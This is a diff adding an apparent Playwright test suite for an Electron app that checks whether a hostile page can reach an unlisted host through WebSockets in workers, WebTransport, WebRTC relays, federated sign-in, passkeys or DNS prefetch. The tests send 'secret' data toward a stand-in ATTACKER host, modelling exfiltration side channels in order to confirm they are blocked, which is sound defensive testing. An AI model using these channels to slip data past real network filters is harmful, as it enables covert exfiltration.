@@ -1,0 +1,210 @@
+import { createSocket, type Socket } from 'node:dgram';
+import { readFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import type { Page } from '@playwright/test';
+import { expect, test } from '../../support/bulkhead.ts';
+import { demoTenant } from '../../support/demo-estate.ts';
+import {
+  ATTACKER,
+  isReached,
+  namelessConnections,
+  openHostile,
+  serve,
+  serveScript,
+} from '../../support/hostile-page.ts';
+import { type OwnApp, startOwnApp } from '../../support/own-app.ts';
+
+// What Chromium sends without asking Electron's request filter. Each channel is first seen to work
+// towards a listed host, so that silence towards another one means something.
+
+const LISTED = 'graph.microsoft.com';
+
+let app: OwnApp;
+let page: Page;
+let udp: Socket;
+let datagrams: Buffer[] = [];
+
+test.beforeAll(async ({ runningCloud }) => {
+  app = await startOwnApp(runningCloud, {
+    switches: [
+      // Names that the last rule excludes go to the machine's own resolver, which the log shows.
+      `--host-resolver-rules=MAP * 127.0.0.1:${String(runningCloud.port)}, EXCLUDE 0.0.0.0, EXCLUDE *.lookup.invalid`,
+    ],
+  });
+  udp = createSocket('udp4').on('message', (datagram) => datagrams.push(datagram));
+  // QUIC is mapped to the cloud's port as well, where nothing else listens for datagrams.
+  await new Promise<void>((done) => udp.bind(runningCloud.port, '127.0.0.1', done));
+});
+test.afterAll(async () => {
+  await new Promise<void>((done) => udp.close(() => done()));
+  await app.close();
+});
+test.beforeEach(async ({ cloud }) => {
+  datagrams = [];
+  const address = serve(cloud, '/taken', '<body>');
+  page = await openHostile(app.bulkhead, demoTenant(cloud, 'Contoso').id, address);
+});
+
+const CONNECT = `
+  onmessage = ({ data }) => open(data, self);
+  onconnect = ({ ports: [port] }) => (port.onmessage = ({ data }) => open(data, port));
+  function open(url, answer) {
+    const socket = new WebSocket(url);
+    socket.onopen = socket.onerror = () => answer.postMessage(url);
+  }`;
+
+const WORKERS = {
+  'a service worker': async (url: string) => {
+    const { active, installing, waiting } = await navigator.serviceWorker.register('/sw.js');
+    (active ?? waiting ?? installing)?.postMessage(url);
+  },
+  'a shared worker': (url: string) =>
+    new Promise<void>((done) => {
+      const { port } = new SharedWorker('/shared.js');
+      port.addEventListener('message', () => done());
+      port.start();
+      port.postMessage(url);
+    }),
+  'a shared worker of a blob': async (url: string) => {
+    const source = await (await fetch('/shared.js')).blob();
+    await new Promise<void>((done) => {
+      const { port } = new SharedWorker(URL.createObjectURL(source));
+      port.addEventListener('message', () => done());
+      port.start();
+      port.postMessage(url);
+    });
+  },
+};
+
+for (const [worker, connect] of Object.entries(WORKERS)) {
+  test(`a WebSocket of ${worker} reaches listed hosts only`, async ({ cloud }) => {
+    serveScript(cloud, '/sw.js', CONNECT);
+    serveScript(cloud, '/shared.js', CONNECT);
+
+    await page.evaluate(connect, `wss://${ATTACKER}/?secret`);
+    await page.evaluate(connect, `wss://${LISTED}/?control`);
+
+    await expect.poll(() => isReached(cloud, LISTED)).toBe(true);
+    expect(isReached(cloud, ATTACKER)).toBe(false);
+    expect(namelessConnections(cloud)).toBe(0);
+  });
+}
+
+/** A packet that opens a QUIC connection has the two highest bits set, one of STUN has neither. */
+const isQuic = (datagram: Buffer) => ((datagram[0] ?? 0) & 0xc0) === 0xc0;
+const isStun = (datagram: Buffer) => ((datagram[0] ?? 0) & 0xc0) === 0;
+
+test('WebTransport sends no datagram to a host that is not listed', async () => {
+  const open = (url: string) =>
+    page.evaluate((address) => new WebTransport(address).ready.catch(String), url);
+
+  expect(await open(`https://${ATTACKER}/`)).toContain('WebTransportError');
+  expect(datagrams.filter(isQuic)).toEqual([]);
+
+  const control = open(`https://${LISTED}/`);
+  await expect.poll(() => datagrams.filter(isQuic).length).toBeGreaterThan(0);
+  // It ends by itself, or with the page.
+  void control.catch(() => undefined);
+});
+
+test('WebRTC reaches no relay that is not listed and tells no address', async ({ cloud }) => {
+  const gather = (server: string) =>
+    page.evaluate(async (host) => {
+      const connection = new RTCPeerConnection({
+        iceServers: [
+          ...[`turns:${host}:443?transport=tcp`, `turn:${host}:443?transport=tcp`].map((urls) => ({
+            urls,
+            username: 'secret',
+            credential: 'secret',
+          })),
+          { urls: `stun:${host}:443` },
+        ],
+      });
+      connection.createDataChannel('any');
+      const candidates: string[] = [];
+      const gathered = new Promise<void>((done) => {
+        connection.onicecandidate = ({ candidate }) => {
+          if (candidate === null) done();
+          else if (candidate.candidate !== '') candidates.push(candidate.candidate);
+        };
+      });
+      await connection.setLocalDescription();
+      await gathered;
+      connection.close();
+      return candidates;
+    }, server);
+
+  expect(await gather(ATTACKER)).toEqual([]);
+  expect(await gather('127.0.0.1')).toEqual([]);
+  expect(isReached(cloud, ATTACKER)).toBe(false);
+  expect(namelessConnections(cloud)).toBe(0);
+
+  await gather(LISTED);
+  await expect.poll(() => isReached(cloud, LISTED)).toBe(true);
+  expect(datagrams.filter(isStun)).toEqual([]);
+});
+
+test('a federated sign-in of the browser asks listed hosts only', async ({ cloud }) => {
+  const ask = (host: string) =>
+    page.evaluate(async (provider) => {
+      const identity = { providers: [{ configURL: `https://${provider}/fedcm`, clientId: 'any' }] };
+      const options = { identity, signal: AbortSignal.timeout(1_000) };
+      await navigator.credentials.get(options).catch(() => undefined);
+    }, host);
+
+  await ask(ATTACKER);
+  await expect(async () => {
+    await ask(LISTED);
+    expect(isReached(cloud, LISTED)).toBe(true);
+  }).toPass();
+  expect(isReached(cloud, ATTACKER)).toBe(false);
+});
+
+test('a passkey of another host makes no request there', async ({ cloud }) => {
+  const refused = await page.evaluate(
+    (rpId) =>
+      navigator.credentials
+        .get({ publicKey: { challenge: new Uint8Array(16), rpId } })
+        .then(String, String),
+    ATTACKER,
+  );
+
+  // Chromium says that it tried.
+  expect(refused).toContain('.well-known');
+  expect(isReached(cloud, ATTACKER)).toBe(false);
+});
+
+test('no name is looked up ahead', async () => {
+  const { electron } = app.bulkhead;
+  const path = join(app.profileDir, 'net-log.json');
+  const log = (isOn: boolean) =>
+    electron.app.evaluate(
+      ({ session: { defaultSession } }, [on, file]) =>
+        on
+          ? defaultSession.netLog.startLogging(file, { captureMode: 'everything' })
+          : defaultSession.netLog.stopLogging(),
+      [isOn, path] as const,
+    );
+
+  await log(true);
+  await page.evaluate(async () => {
+    for (const rel of ['dns-prefetch', 'preconnect']) {
+      const link = document.createElement('link');
+      link.rel = rel;
+      link.href = `https://secret-${rel}.lookup.invalid`;
+      document.head.append(link);
+    }
+    const iceServers = [{ urls: 'stun:secret-stun.lookup.invalid' }];
+    const connection = new RTCPeerConnection({ iceServers });
+    connection.createDataChannel('any');
+    await connection.setLocalDescription();
+  });
+  // The way a lookup would show: main itself has one made.
+  await electron.app.evaluate(({ session: { defaultSession } }) =>
+    defaultSession.resolveHost('control.lookup.invalid').catch(() => undefined),
+  );
+  await log(false);
+
+  const names = (await readFile(path, 'utf8')).match(/[a-z-]+\.lookup\.invalid/g) ?? [];
+  expect([...new Set(names)]).toEqual(['control.lookup.invalid']);
+});
